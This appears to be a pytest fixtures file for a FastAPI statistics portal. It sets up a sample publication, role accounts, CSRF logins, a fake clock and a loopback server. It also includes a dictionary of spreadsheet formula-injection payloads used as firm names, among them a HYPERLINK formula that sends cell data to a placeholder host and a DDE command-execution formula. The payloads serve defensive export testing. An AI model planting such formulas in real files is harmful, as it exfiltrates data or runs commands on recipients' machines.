"""A real publication (the pipeline over the tiny sample), real accounts, the real app, and
the real server (uvicorn in a subprocess) where a test needs what only it does."""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from pipeline.reference.prefectures import PREFECTURES
from pipeline.settings import PROJECT_ROOT
from portal.accounts import Store
from portal.app import PortalConfig, create_app
from sample_data.generate import write_sample
from tests.conftest import YEAR, Pipeline, firm, sale

PASSWORD = "correct horse battery staple"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


class Clock:
    """Unix seconds that a test moves by hand, so windows and timeouts pass without sleeping."""

    def __init__(self, start: float = 1_750_000_000.0):
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


@dataclass(frozen=True)
class Portal:
    config: PortalConfig
    year: int
    clock: Callable[[], float] = field(default=time.time)

    def client(self, address: str = "testclient", raise_server_exceptions: bool = True) -> TestClient:
        # https: the session cookie is Secure, and a client keeps it only over TLS.
        return TestClient(
            create_app(self.config, self.clock),
            base_url="https://testserver",
            follow_redirects=False,
            client=(address, 50000),
            raise_server_exceptions=raise_server_exceptions,
        )

    def store(self) -> Store:
        return Store(self.config.database, self.clock)


def portal_over(marts_dir: Path, database: Path, roles, clock=time.time) -> Portal:
    """A portal with its own file and one account per role (named as `username` says)."""
    config = PortalConfig(marts_dir=marts_dir, database=database, allowed_hosts=("testserver",))
    store = Store(config.database, clock)
    for role in roles:
        store.create(username(role), role, PASSWORD)
    return Portal(config, int(YEAR), clock)


def username(role: str) -> str:
    return role.replace(":", "")


def login(client: TestClient, user: str, password: str = PASSWORD):
    page = client.get("/login")
    token = CSRF.search(page.text).group(1)
    return client.post("/login", data={"username": user, "password": password, "csrf_token": token})


def logged_in(portal: Portal, role: str) -> TestClient:
    client = portal.client()
    response = login(client, username(role))
    assert response.status_code == 303, response.text
    return client


@pytest.fixture(scope="session")
def published(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("portal_publication")
    pipeline = Pipeline(root)
    write_sample(pipeline.paths.raw_dir, size="tiny", fiscal_year=int(YEAR))
    run = pipeline.run()
    assert run.success, run.failure
    return pipeline.paths.marts_dir


@pytest.fixture(scope="session")
def portal(published, tmp_path_factory) -> Portal:
    roles = [f"pref:{p.code}" for p in PREFECTURES] + ["secretariat", "reviewer"]
    return portal_over(published, tmp_path_factory.mktemp("portal") / "portal.sqlite3", roles)


@pytest.fixture
def fresh(published, tmp_path) -> Portal:
    """A portal of its own on a hand-moved clock: counters, windows and sessions start empty."""
    roles = ("pref:13", "secretariat", "reviewer")
    return portal_over(published, tmp_path / "portal.sqlite3", roles, Clock())


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def running_server(portal: Portal, **env: str) -> Iterator[str]:
    """`python -m portal` on a free loopback port, as `make portal` starts it; yields its URL."""
    port = _free_port()
    environment = {
        **os.environ,
        "DATA_MARTS_DIR": str(portal.config.marts_dir),
        "PORTAL_DB": str(portal.config.database),
        **env,
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "portal", "--port", str(port)], cwd=PROJECT_ROOT, env=environment,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )  # fmt: skip
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(200):
            try:
                urllib.request.urlopen(f"{url}/login", timeout=1)
                break
            except OSError:
                assert process.poll() is None, process.stdout.read().decode()
                time.sleep(0.1)
        yield url
    finally:
        process.terminate()
        process.wait(timeout=10)


# Firm names a careful attacker would register: formulas (the review's three among them),
# full-width triggers, an error literal. Control characters are left to the XLSX unit test:
# whether input staging keeps them is the staging's decision, not the portal's.
HOSTILE_NAMES = {
    1: '=HYPERLINK("http://x.example/?"&D2&E2,"詳細")',
    2: "=1+1",
    3: "=cmd|' /C calc'!A0",
    4: "+81 商事",
    5: "-2+3",
    6: "@SUM(A1)",
    7: "＝１＋１",
    8: "＋８１商事",
    9: "－全角マイナス工業",
    10: "＠ＳＵＭ（Ａ１）",
    11: "#N/A",
}


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> Portal:
    """A publication whose Tokyo candidates all have hostile names, with its own accounts."""
    root = tmp_path_factory.mktemp("hostile_publication")
    pipeline = Pipeline(root)
    firms = [firm(n, "13", name=name) for n, name in HOSTILE_NAMES.items()]
    firms += [firm(n, "27") for n in range(20, 30)]
    transactions = [sale(n, 20, 1_000 * n) for n in HOSTILE_NAMES]
    transactions += [sale(20 + i, 1, 500 + i) for i in range(10)]
    pipeline.write(firms, transactions)
    run = pipeline.run()
    assert run.success, run.failure
    names = {row["name"] for row in run.parquet("national_candidates")}
    assert set(HOSTILE_NAMES.values()) <= names  # every hostile firm is on the list
    return portal_over(pipeline.paths.marts_dir, root / "portal.sqlite3", ("pref:13", "secretariat"))
